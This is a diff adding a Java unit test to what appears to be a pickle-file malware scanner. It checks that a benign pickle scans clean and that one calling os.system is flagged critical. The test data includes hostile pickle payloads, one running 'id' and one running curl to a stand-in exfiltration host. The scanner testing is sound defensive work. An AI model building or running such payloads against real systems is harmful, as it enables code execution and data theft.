@@ -269,6 +269,61 @@ class BuiltFilesTest {
     }
 
     @Test
+    void readsEveryOpcodeOfAllProtocols() {
+        // Protocol 2 list holding BINFLOAT, LONG1, BININT2, NEWTRUE, SHORT_BINBYTES, EMPTY_SET + ADDITEMS, FROZENSET,
+        // TUPLE3 and a memo round trip; then a second pickle that calls os.system.
+        byte[] benign = concat(new byte[] {
+            (byte) 0x80,
+            2,
+            ']',
+            'q',
+            0,
+            '(',
+            'G',
+            0,
+            0,
+            0,
+            0,
+            0,
+            0,
+            (byte) 0xf0,
+            0x3f,
+            (byte) 0x8a,
+            1,
+            5,
+            'M',
+            1,
+            2,
+            (byte) 0x88,
+            'C',
+            2,
+            'a',
+            'b',
+            (byte) 0x8f,
+            '(',
+            'K',
+            1,
+            (byte) 0x90,
+            '(',
+            'K',
+            2,
+            (byte) 0x91,
+            'N',
+            'N',
+            'N',
+            (byte) 0x87,
+            'h',
+            0,
+            'e',
+            '.'
+        });
+        assertThat(scan("b.pkl", benign)).isInstanceOf(FileVerdict.Clean.class);
+        assertThat(scan("b2.pkl", concat(benign, Build.globalCall("os", "system", "id")))
+                        .worst())
+                .contains(Severity.CRITICAL);
+    }
+
+    @Test
     void describesFindingsWithoutCopyingFileContent() {
         FileVerdict v = scan("x.pkl", Build.globalCall("os", "system", "curl secret-exfil-host"));
         assertThat(v.findings()).allSatisfy(f -> assertThat(f.reason()).doesNotContain("secret-exfil-host"));
